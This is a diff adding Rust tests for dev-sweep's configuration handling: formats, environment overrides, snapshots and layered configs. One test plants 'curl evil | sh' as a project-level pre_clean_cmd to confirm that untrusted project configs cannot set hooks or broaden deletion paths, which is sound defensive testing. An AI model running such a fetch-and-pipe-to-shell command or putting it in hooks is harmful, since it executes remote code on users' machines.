@@ -1,10 +1,16 @@
-//! Tests for configuration: defaults, serialization round-trip, save/load.
+//! Tests for configuration: defaults, serialization round-trip, save/load, file formats.
 
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
-use dev_sweep::config::DevSweepConfig;
-use dev_sweep::scanner::ProjectKind;
+use clap::{Parser, ValueEnum};
+use dev_sweep::cli::Cli;
+use dev_sweep::config::{
+    ConfigFormat, ConfigLayer, ConfigSource, DefaultCommand, DevSweepConfig, LayeredConfig,
+    edit_config, editor_command, find_project_config, list_snapshots, restore_snapshot,
+    save_snapshot, snapshots_dir,
+};
+use dev_sweep::scanner::{ProjectKind, RebuildCost, SizeMode};
 
 #[test]
 fn default_config_is_empty() {
@@ -13,6 +19,7 @@ fn default_config_is_empty() {
     assert!(config.exclude_kinds.is_empty());
     assert!(config.default_roots.is_empty());
     assert!(config.max_depth.is_none());
+    assert!(config.global_caches.is_empty());
 }
 
 #[test]
@@ -22,6 +29,7 @@ fn config_serialization_round_trip() {
         exclude_kinds: vec![ProjectKind::Go, ProjectKind::Terraform],
         default_roots: vec![PathBuf::from("~/projects")],
         max_depth: Some(5),
+        ..Default::default()
     };
 
     let json = serde_json::to_string(&config).unwrap();
@@ -65,6 +73,7 @@ fn config_save_and_load() {
         exclude_kinds: vec![ProjectKind::Ruby],
         default_roots: vec![PathBuf::from("~/code")],
         max_depth: Some(10),
+        ..Default::default()
     };
 
     // Save
@@ -92,3 +101,633 @@ fn config_load_returns_default_when_missing() {
     let _ = config.ignore_paths;
     let _ = config.max_depth;
 }
+
+#[test]
+fn config_global_caches_round_trip() {
+    let json = r#"{"global_caches": ["Julia"]}"#;
+    let config: DevSweepConfig = serde_json::from_str(json).unwrap();
+    assert_eq!(config.global_caches, vec![ProjectKind::Julia]);
+}
+
+// ── formats ─────────────────────────────────────────────────────────────────
+
+fn sample_config() -> DevSweepConfig {
+    DevSweepConfig {
+        ignore_paths: vec![PathBuf::from("/tmp/skip")],
+        exclude_kinds: vec![ProjectKind::Go],
+        max_depth: Some(4),
+        global_caches: vec![ProjectKind::Julia],
+        ..Default::default()
+    }
+}
+
+#[test]
+fn config_format_detected_from_extension() {
+    let detect = |p: &str| ConfigFormat::from_path(Path::new(p));
+    assert_eq!(detect("a/config.json"), Some(ConfigFormat::Json));
+    assert_eq!(detect("config.TOML"), Some(ConfigFormat::Toml));
+    assert_eq!(detect("config.yml"), Some(ConfigFormat::Yaml));
+    assert_eq!(detect("config.yaml"), Some(ConfigFormat::Yaml));
+    assert_eq!(detect("config"), None);
+}
+
+#[test]
+fn config_round_trips_in_every_format() {
+    let config = sample_config();
+    for format in [ConfigFormat::Json, ConfigFormat::Toml, ConfigFormat::Yaml] {
+        let text = format.render(&config).unwrap();
+        let parsed = format.parse(&text).unwrap();
+        assert_eq!(parsed.ignore_paths, config.ignore_paths, "{format:?}");
+        assert_eq!(parsed.exclude_kinds, config.exclude_kinds, "{format:?}");
+        assert_eq!(parsed.max_depth, config.max_depth, "{format:?}");
+        assert_eq!(parsed.global_caches, config.global_caches, "{format:?}");
+    }
+}
+
+#[test]
+fn config_parses_handwritten_toml() {
+    let toml = r#"
+ignore_paths = ["/tmp/old"]
+exclude_kinds = ["Ruby"]
+max_depth = 3
+"#;
+    let config = ConfigFormat::Toml.parse(toml).unwrap();
+    assert_eq!(config.ignore_paths, vec![PathBuf::from("/tmp/old")]);
+    assert_eq!(config.exclude_kinds, vec![ProjectKind::Ruby]);
+    assert_eq!(config.max_depth, Some(3));
+    assert!(config.default_roots.is_empty());
+}
+
+#[test]
+fn config_save_to_uses_file_extension() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_toml");
+    let _ = fs::remove_dir_all(&dir);
+    let path = dir.join("config.toml");
+
+    sample_config().save_to(&path).unwrap();
+    let written = fs::read_to_string(&path).unwrap();
+    assert!(written.contains("max_depth = 4"));
+    assert_eq!(DevSweepConfig::load_from(&path).max_depth, Some(4));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn config_file_lookup_prefers_json_then_existing_format() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_lookup");
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).unwrap();
+
+    // Nothing on disk: JSON is the default
+    assert_eq!(
+        DevSweepConfig::find_config_in(&dir),
+        dir.join("config.json")
+    );
+
+    fs::write(dir.join("config.yml"), "max_depth: 2\n").unwrap();
+    assert_eq!(DevSweepConfig::find_config_in(&dir), dir.join("config.yml"));
+
+    fs::write(dir.join("config.toml"), "max_depth = 2\n").unwrap();
+    assert_eq!(
+        DevSweepConfig::find_config_in(&dir),
+        dir.join("config.toml")
+    );
+
+    fs::write(dir.join("config.json"), "{}").unwrap();
+    assert_eq!(
+        DevSweepConfig::find_config_in(&dir),
+        dir.join("config.json")
+    );
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+// ── environment overrides ───────────────────────────────────────────────────
+
+/// Helper: an env lookup backed by a fixed list of variables.
+fn env(vars: &[(&str, &str)]) -> impl Fn(&str) -> Option<std::ffi::OsString> {
+    let vars: Vec<(String, String)> = vars
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    move |name| vars.iter().find(|(k, _)| k == name).map(|(_, v)| v.into())
+}
+
+#[test]
+fn env_overrides_replace_file_values() {
+    let mut config = sample_config();
+    let roots = std::env::join_paths(["/ci/a", "/ci/b"]).unwrap();
+    let warnings = config.apply_env(env(&[
+        ("DEV_SWEEP_MAX_DEPTH", "9"),
+        ("DEV_SWEEP_DEFAULT_ROOTS", roots.to_str().unwrap()),
+        ("DEV_SWEEP_EXCLUDE_KINDS", "rust, Node.js"),
+        ("DEV_SWEEP_EXCLUDE_TARGETS", "target/release, *.egg-info,"),
+        ("DEV_SWEEP_OLDER_THAN", "2w"),
+        ("DEV_SWEEP_EXCLUDE_UNDER_SIZE", "50MB"),
+        ("DEV_SWEEP_CONFIRM_THRESHOLD", "500MB"),
+        ("DEV_SWEEP_CONFIRM_PHRASE_ABOVE", "20GB"),
+        ("DEV_SWEEP_AUTO_CLEAN_KINDS", "Node.js,rust"),
+        ("DEV_SWEEP_DETECTION_PRIORITY", "Node"),
+        ("DEV_SWEEP_CLEAN_ORDER", "age"),
+    ]));
+
+    assert!(warnings.is_empty());
+    assert_eq!(config.max_depth, Some(9));
+    assert_eq!(
+        config.default_roots,
+        [PathBuf::from("/ci/a"), PathBuf::from("/ci/b")]
+    );
+    assert_eq!(config.exclude_kinds, [ProjectKind::Rust, ProjectKind::Node]);
+    assert_eq!(config.exclude_targets, ["target/release", "*.egg-info"]);
+    assert_eq!(config.older_than.as_deref(), Some("2w"));
+    assert_eq!(config.exclude_under_size.as_deref(), Some("50MB"));
+    assert_eq!(config.confirm_threshold.as_deref(), Some("500MB"));
+    assert_eq!(config.confirm_phrase_above.as_deref(), Some("20GB"));
+    assert_eq!(config.clean_order.as_deref(), Some("age"));
+    assert_eq!(
+        config.auto_clean_kinds,
+        [ProjectKind::Node, ProjectKind::Rust]
+    );
+    assert_eq!(config.detection_priority, [ProjectKind::Node]);
+    // Untouched fields keep their file values
+    assert_eq!(config.ignore_paths, [PathBuf::from("/tmp/skip")]);
+    assert_eq!(config.global_caches, [ProjectKind::Julia]);
+}
+
+#[test]
+fn env_overrides_ignore_unset_and_empty() {
+    let mut config = sample_config();
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_MAX_DEPTH", "")]));
+    assert!(warnings.is_empty());
+    assert_eq!(config.max_depth, Some(4));
+}
+
+#[test]
+fn env_overrides_report_invalid_values() {
+    let mut config = sample_config();
+    let warnings = config.apply_env(env(&[
+        ("DEV_SWEEP_MAX_DEPTH", "deep"),
+        ("DEV_SWEEP_EXCLUDE_KINDS", "Rust,Cobol"),
+        ("DEV_SWEEP_OLDER_THAN", "soon"),
+        ("DEV_SWEEP_EXCLUDE_UNDER_SIZE", "tiny"),
+        ("DEV_SWEEP_CONFIRM_THRESHOLD", "lots"),
+        ("DEV_SWEEP_CLEAN_ORDER", "newest"),
+    ]));
+
+    assert_eq!(warnings.len(), 6);
+    assert!(warnings[0].contains("DEV_SWEEP_EXCLUDE_KINDS"));
+    assert!(warnings[0].contains("Cobol"));
+    assert!(warnings.iter().any(|w| w.contains("DEV_SWEEP_MAX_DEPTH")));
+    assert!(warnings.iter().any(|w| w.contains("DEV_SWEEP_OLDER_THAN")));
+    assert!(warnings.iter().any(|w| w.contains("DEV_SWEEP_EXCLUDE_UNDER_SIZE")));
+    assert!(warnings.iter().any(|w| w.contains("DEV_SWEEP_CONFIRM_THRESHOLD")));
+    assert!(warnings.iter().any(|w| w.contains("DEV_SWEEP_CLEAN_ORDER")));
+    // Invalid values leave the file values in place
+    assert_eq!(config.max_depth, Some(4));
+    assert_eq!(config.exclude_kinds, [ProjectKind::Go]);
+    assert!(config.older_than.is_none());
+    assert!(config.exclude_under_size.is_none());
+    assert!(config.confirm_threshold.is_none());
+}
+
+#[test]
+fn config_kind_aliases_parse_from_json_and_toml() {
+    let json = r#"{"kind_aliases": {"Java": "JVM", "Scala": "JVM"}}"#;
+    let toml = "[kind_aliases]\nJava = \"JVM\"\nScala = \"JVM\"\n";
+    for config in [
+        ConfigFormat::Json.parse(json).unwrap(),
+        ConfigFormat::Toml.parse(toml).unwrap(),
+    ] {
+        assert_eq!(config.kind_aliases.len(), 2);
+        assert_eq!(config.kind_aliases[&ProjectKind::Java], "JVM");
+    }
+
+    let round_trip = ConfigFormat::Toml
+        .parse(
+            &ConfigFormat::Toml
+                .render(&ConfigFormat::Json.parse(json).unwrap())
+                .unwrap(),
+        )
+        .unwrap();
+    assert_eq!(round_trip.kind_aliases[&ProjectKind::Scala], "JVM");
+}
+
+#[test]
+fn config_rebuild_costs_parse_lowercase_labels() {
+    let config = ConfigFormat::Json
+        .parse(r#"{"rebuild_costs": {"Node": "cheap", "Python": "expensive"}}"#)
+        .unwrap();
+    let costs = &config.rebuild_costs;
+    assert_eq!(costs[&ProjectKind::Node], RebuildCost::Cheap);
+    assert_eq!(costs[&ProjectKind::Python], RebuildCost::Expensive);
+
+    assert!(
+        ConfigFormat::Json
+            .parse(r#"{"rebuild_costs": {"Node": "free"}}"#)
+            .is_err()
+    );
+}
+
+#[test]
+fn env_overrides_temp_older_than() {
+    let mut config = DevSweepConfig::default();
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_TEMP_OLDER_THAN", "14d")]));
+    assert!(warnings.is_empty());
+    assert_eq!(config.temp_older_than.as_deref(), Some("14d"));
+
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_TEMP_OLDER_THAN", "later")]));
+    assert_eq!(warnings.len(), 1);
+    assert!(warnings[0].contains("DEV_SWEEP_TEMP_OLDER_THAN"));
+    assert_eq!(config.temp_older_than.as_deref(), Some("14d"));
+}
+
+#[test]
+fn env_overrides_size_mode() {
+    let mut config = DevSweepConfig::default();
+    assert!(config.size_mode.is_none());
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_SIZE_MODE", "apparent")]));
+    assert!(warnings.is_empty());
+    assert_eq!(config.size_mode, Some(SizeMode::Apparent));
+
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_SIZE_MODE", "blocks")]));
+    assert_eq!(warnings.len(), 1);
+    assert_eq!(config.size_mode, Some(SizeMode::Apparent));
+
+    let config: DevSweepConfig = serde_json::from_str(r#"{"size_mode": "disk-usage"}"#).unwrap();
+    assert_eq!(config.size_mode, Some(SizeMode::DiskUsage));
+}
+
+// ── default command ─────────────────────────────────────────────────────────
+
+#[test]
+fn config_default_command_parses_by_subcommand_name() {
+    let config: DevSweepConfig = serde_json::from_str(r#"{"default_command": "summary"}"#).unwrap();
+    assert_eq!(config.default_command, Some(DefaultCommand::Summary));
+    let config = ConfigFormat::Toml.parse("default_command = \"clean\"").unwrap();
+    assert_eq!(config.default_command, Some(DefaultCommand::Clean));
+
+    assert!(serde_json::from_str::<DevSweepConfig>(r#"{"default_command": "nuke"}"#).is_err());
+    assert!(DevSweepConfig::default().default_command.is_none());
+}
+
+#[test]
+fn default_command_names_are_real_subcommands() {
+    for command in DefaultCommand::value_variants() {
+        let cli = Cli::try_parse_from(["dev-sweep", command.name()]).unwrap();
+        assert!(cli.command.is_some(), "{} is not a subcommand", command.name());
+    }
+}
+
+#[test]
+fn env_overrides_default_command() {
+    let mut config = DevSweepConfig::default();
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_DEFAULT_COMMAND", "Summary")]));
+    assert!(warnings.is_empty());
+    assert_eq!(config.default_command, Some(DefaultCommand::Summary));
+
+    let warnings = config.apply_env(env(&[("DEV_SWEEP_DEFAULT_COMMAND", "nuke")]));
+    assert_eq!(warnings.len(), 1);
+    assert_eq!(config.default_command, Some(DefaultCommand::Summary));
+}
+
+// ── editing ─────────────────────────────────────────────────────────────────
+
+#[test]
+fn editor_prefers_visual_then_editor() {
+    let both = env(&[("VISUAL", "code --wait"), ("EDITOR", "nano")]);
+    assert_eq!(editor_command(both), "code --wait");
+    assert_eq!(editor_command(env(&[("EDITOR", "nano")])), "nano");
+    // An empty variable doesn't count
+    let empty = env(&[("VISUAL", " "), ("EDITOR", "nano")]);
+    assert_eq!(editor_command(empty), "nano");
+    let fallback = if cfg!(windows) { "notepad" } else { "vi" };
+    assert_eq!(editor_command(env(&[])), fallback);
+}
+
+#[cfg(unix)]
+#[test]
+fn edit_creates_missing_config_from_defaults() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_edit");
+    let _ = fs::remove_dir_all(&dir);
+    let path = dir.join("dev-sweep/config.toml");
+
+    edit_config(&path, "true").unwrap();
+    let config = ConfigFormat::Toml
+        .parse(&fs::read_to_string(&path).unwrap())
+        .unwrap();
+    assert!(config.max_depth.is_none());
+
+    // An existing file is opened as it is
+    fs::write(&path, "max_depth = 4\n").unwrap();
+    edit_config(&path, "true").unwrap();
+    assert_eq!(fs::read_to_string(&path).unwrap(), "max_depth = 4\n");
+
+    assert!(edit_config(&path, "false").is_err());
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn config_path_flag_stands_alone() {
+    assert!(Cli::try_parse_from(["dev-sweep", "config", "--path"]).is_ok());
+    assert!(Cli::try_parse_from(["dev-sweep", "config", "--path", "--show"]).is_err());
+    assert!(Cli::try_parse_from(["dev-sweep", "config", "--edit", "--reset"]).is_err());
+}
+
+// ── snapshots ───────────────────────────────────────────────────────────────
+
+#[test]
+fn snapshot_restores_the_file_as_it_was() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_snapshot");
+    let _ = fs::remove_dir_all(&dir);
+    let path = dir.join("dev-sweep/config.toml");
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    let careful = "# keep it careful\nmax_depth = 4\n";
+    fs::write(&path, careful).unwrap();
+
+    let saved = save_snapshot(&path, "careful").unwrap();
+    assert_eq!(saved, snapshots_dir(&path).join("careful.toml"));
+    fs::write(&path, "max_depth = 12\n").unwrap();
+    save_snapshot(&path, "v2.aggressive").unwrap();
+
+    let mut names: Vec<String> = list_snapshots(&path).into_iter().map(|s| s.name).collect();
+    names.sort();
+    assert_eq!(names, ["careful", "v2.aggressive"]);
+
+    // Comments and all come back.
+    let restored = restore_snapshot(&path, "careful").unwrap();
+    assert_eq!(restored.name, "careful");
+    assert_eq!(fs::read_to_string(&path).unwrap(), careful);
+
+    // Saving under a taken name replaces the snapshot.
+    save_snapshot(&path, "v2.aggressive").unwrap();
+    assert_eq!(list_snapshots(&path).len(), 2);
+    restore_snapshot(&path, "v2.aggressive").unwrap();
+    assert_eq!(fs::read_to_string(&path).unwrap(), careful);
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn restore_converts_formats_and_refuses_bad_snapshots() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_restore");
+    let _ = fs::remove_dir_all(&dir);
+    let path = dir.join("dev-sweep/config.json");
+    let snapshots = snapshots_dir(&path);
+    fs::create_dir_all(&snapshots).unwrap();
+    fs::write(snapshots.join("from-toml.toml"), "max_depth = 6\n").unwrap();
+    fs::write(snapshots.join("broken.json"), "{ not json").unwrap();
+
+    restore_snapshot(&path, "from-toml").unwrap();
+    assert_eq!(DevSweepConfig::load_from(&path).max_depth, Some(6));
+
+    // A broken snapshot never replaces a working config.
+    let before = fs::read_to_string(&path).unwrap();
+    let err = restore_snapshot(&path, "broken").unwrap_err();
+    assert!(err.to_string().contains("isn't a valid config"), "{err}");
+    assert_eq!(fs::read_to_string(&path).unwrap(), before);
+
+    let err = restore_snapshot(&path, "missing").unwrap_err();
+    assert!(err.to_string().contains("saved: "), "{err}");
+    assert!(save_snapshot(&path, "../outside").is_err());
+    assert!(save_snapshot(&path, ".hidden").is_err());
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+// ── corrupt config ──────────────────────────────────────────────────────────
+
+#[test]
+fn config_read_reports_source() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_source");
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("config.json");
+
+    let (_, source) = DevSweepConfig::read_from(&path);
+    assert_eq!(source, ConfigSource::Defaults);
+
+    fs::write(&path, r#"{"max_depth": 2}"#).unwrap();
+    let (config, source) = DevSweepConfig::read_from(&path);
+    assert_eq!(config.max_depth, Some(2));
+    assert_eq!(source, ConfigSource::File(path.clone()));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn config_corrupt_file_is_backed_up_and_defaults_used() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_corrupt");
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("config.toml");
+    let broken = "max_depth = \nignore_paths = [\n";
+    fs::write(&path, broken).unwrap();
+
+    let (config, source) = DevSweepConfig::read_from(&path);
+    assert!(config.max_depth.is_none());
+    match source {
+        ConfigSource::Fallback {
+            path: bad,
+            error,
+            backup,
+        } => {
+            assert_eq!(bad, path);
+            assert!(!error.is_empty());
+            assert_eq!(backup, Some(dir.join("config.toml.bak")));
+        }
+        other => panic!("expected a fallback, got {other:?}"),
+    }
+    // The original is left in place and the backup is an exact copy
+    assert_eq!(fs::read_to_string(&path).unwrap(), broken);
+    assert_eq!(fs::read_to_string(dir.join("config.toml.bak")).unwrap(), broken);
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn config_source_describes_fallback() {
+    let source = ConfigSource::Fallback {
+        path: PathBuf::from("/cfg/config.json"),
+        error: "expected value".into(),
+        backup: None,
+    };
+    assert_eq!(source.to_string(), "defaults (/cfg/config.json could not be parsed)");
+}
+
+// ── layers ──────────────────────────────────────────────────────────────────
+
+/// Helper: a fresh directory holding a system, a user, and a project config.
+fn layer_files(name: &str, project: &str) -> (PathBuf, PathBuf, PathBuf, PathBuf) {
+    let dir = std::env::temp_dir().join(format!("dev_sweep_test_{name}"));
+    let _ = fs::remove_dir_all(&dir);
+    fs::create_dir_all(dir.join("etc")).unwrap();
+    fs::create_dir_all(dir.join("home")).unwrap();
+    fs::create_dir_all(dir.join("repo/src")).unwrap();
+    let system = dir.join("etc/config.json");
+    let user = dir.join("home/config.toml");
+    let project_file = dir.join("repo/.dev-sweep.json");
+    fs::write(
+        &system,
+        r#"{"exclude_kinds": ["Go"], "max_depth": 3, "older_than": "1y"}"#,
+    )
+    .unwrap();
+    fs::write(&user, "max_depth = 5\nolder_than = \"30d\"\n").unwrap();
+    fs::write(&project_file, project).unwrap();
+    (dir, system, user, project_file)
+}
+
+#[test]
+fn layers_merge_with_project_winning() {
+    let (dir, system, user, project) = layer_files(
+        "config_layers_merge",
+        r#"{"older_than": "2w", "unknown": 1}"#,
+    );
+
+    let layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    assert!(layered.warnings.is_empty());
+    assert_eq!(layered.config.exclude_kinds, [ProjectKind::Go]);
+    assert_eq!(layered.config.max_depth, Some(5));
+    assert_eq!(layered.config.older_than.as_deref(), Some("2w"));
+    assert_eq!(layered.source, ConfigSource::File(user.clone()));
+
+    let layers: Vec<ConfigLayer> = layered.files.iter().map(|(layer, _)| *layer).collect();
+    assert_eq!(
+        layers,
+        [ConfigLayer::System, ConfigLayer::User, ConfigLayer::Project]
+    );
+    assert_eq!(layered.origins["exclude_kinds"], ConfigLayer::System);
+    assert_eq!(layered.origins["max_depth"], ConfigLayer::User);
+    assert_eq!(layered.origins["older_than"], ConfigLayer::Project);
+    // Settings dev-sweep doesn't know aren't reported
+    assert!(!layered.origins.contains_key("unknown"));
+    assert!(!layered.origins.contains_key("ignore_paths"));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn layers_skip_missing_files() {
+    let dir = std::env::temp_dir().join("dev_sweep_test_config_layers_missing");
+    let layered = LayeredConfig::merge(
+        Some(&dir.join("etc/config.json")),
+        &dir.join("home/config.json"),
+        None,
+    );
+    assert!(layered.files.is_empty());
+    assert!(layered.origins.is_empty());
+    assert_eq!(layered.source, ConfigSource::Defaults);
+    assert!(layered.config.max_depth.is_none());
+}
+
+#[test]
+fn project_layer_cannot_set_hooks_or_artifact_dirs() {
+    let (dir, system, user, project) = layer_files(
+        "config_layers_denied",
+        r#"{"pre_clean_cmd": "curl evil | sh", "artifact_dirs": {"Rust": "/"}, "min_depth": 1}"#,
+    );
+
+    let layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    assert!(layered.config.pre_clean_cmd.is_none());
+    assert!(layered.config.artifact_dirs.is_empty());
+    assert_eq!(layered.config.min_depth, Some(1));
+    assert_eq!(layered.warnings.len(), 2);
+    assert!(layered.warnings.iter().any(|w| w.contains("pre_clean_cmd")));
+    assert!(layered.warnings.iter().any(|w| w.contains("artifact_dirs")));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn project_layer_cannot_set_quarantine_dir() {
+    let (dir, system, user, project) =
+        layer_files("config_layers_quarantine", r#"{"quarantine_dir": "/"}"#);
+
+    let layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    assert!(layered.config.quarantine_dir.is_none());
+    assert_eq!(layered.warnings.len(), 1);
+    assert!(layered.warnings[0].contains("quarantine_dir"));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn project_layer_cannot_weaken_safeguards() {
+    let (dir, system, user, project) = layer_files(
+        "config_layers_safeguards",
+        r#"{"safe_mode": false, "confirm_threshold": "1TB", "confirm_phrase_above": "1TB",
+            "confirm_timeout_secs": 99999, "global_caches": ["CargoCache"],
+            "auto_clean_kinds": ["Rust"], "default_command": "clean",
+            "exclude_targets": ["dist"]}"#,
+    );
+    fs::write(
+        &user,
+        "safe_mode = true\nconfirm_threshold = \"1GB\"\nconfirm_timeout_secs = 30\n",
+    )
+    .unwrap();
+
+    let layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    assert!(layered.config.safe_mode);
+    assert_eq!(layered.config.confirm_threshold.as_deref(), Some("1GB"));
+    assert!(layered.config.confirm_phrase_above.is_none());
+    assert_eq!(layered.config.confirm_timeout_secs, Some(30));
+    assert!(layered.config.global_caches.is_empty());
+    assert!(layered.config.auto_clean_kinds.is_empty());
+    assert!(layered.config.default_command.is_none());
+    // Narrowing what gets cleaned is still up to the project.
+    assert_eq!(layered.config.exclude_targets, ["dist"]);
+    assert_eq!(layered.warnings.len(), 7);
+    assert!(layered.warnings.iter().any(|w| w.contains("safe_mode")));
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn broken_project_layer_is_skipped_with_a_warning() {
+    let (dir, system, user, project) =
+        layer_files("config_layers_broken", r#"{"max_depth": "deep"}"#);
+
+    let layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    assert_eq!(layered.config.max_depth, Some(5));
+    assert_eq!(layered.config.older_than.as_deref(), Some("30d"));
+    assert_eq!(layered.warnings.len(), 1);
+    assert!(layered.warnings[0].contains("project config"));
+    // Only the user's own file is ever backed up
+    assert!(!dir.join("repo/.dev-sweep.json.bak").exists());
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn env_overrides_are_credited_to_the_environment() {
+    let (dir, system, user, project) = layer_files("config_layers_env", "{}");
+
+    let mut layered = LayeredConfig::merge(Some(&system), &user, Some(&project));
+    layered.apply_env(env(&[
+        ("DEV_SWEEP_MAX_DEPTH", "9"),
+        ("DEV_SWEEP_OLDER_THAN", "30d"),
+    ]));
+    assert_eq!(layered.config.max_depth, Some(9));
+    assert_eq!(layered.origins["max_depth"], ConfigLayer::Environment);
+    // Setting the value it already had leaves the credit where it was
+    assert_eq!(layered.origins["older_than"], ConfigLayer::User);
+
+    fs::remove_dir_all(&dir).unwrap();
+}
+
+#[test]
+fn project_config_is_found_in_the_nearest_ancestor() {
+    let (dir, _, _, project) = layer_files("config_layers_find", "{}");
+
+    assert_eq!(
+        find_project_config(&dir.join("repo/src")),
+        Some(project.clone())
+    );
+    assert_eq!(find_project_config(&dir.join("repo")), Some(project));
+    let nested = dir.join("repo/src/.dev-sweep.yaml");
+    fs::write(&nested, "max_depth: 2\n").unwrap();
+    assert_eq!(find_project_config(&dir.join("repo/src")), Some(nested));
+    assert_eq!(find_project_config(&dir.join("home")), None);
+
+    fs::remove_dir_all(&dir).unwrap();
+}